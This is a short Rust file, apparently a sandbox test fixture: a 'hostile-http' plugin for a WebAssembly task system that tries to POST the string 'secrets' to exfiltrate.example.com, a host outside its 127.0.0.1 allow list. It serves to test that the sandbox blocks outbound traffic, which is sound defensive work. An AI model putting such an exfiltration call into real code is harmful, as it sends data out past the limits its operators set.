//! Hostile: sends HTTP to a host that is not on its allow list (it may only
//! reach 127.0.0.1).

use wasmq_guest::{Failure, Handler, Task, http};

struct Exfiltrate;

impl Handler for Exfiltrate {
    type Payload = serde_json::Value;
    type Output = ();

    fn handle(_task: &Task, _payload: serde_json::Value) -> Result<(), Failure> {
        http::post(
            "http://exfiltrate.example.com/collect",
            "text/plain",
            b"secrets",
        )?;
        Ok(())
    }
}

wasmq_guest::plugin! {
    handler: Exfiltrate,
    name: "hostile-http",
    task_types: ["hostile:http"],
    manifest: "wasmq.toml",
}
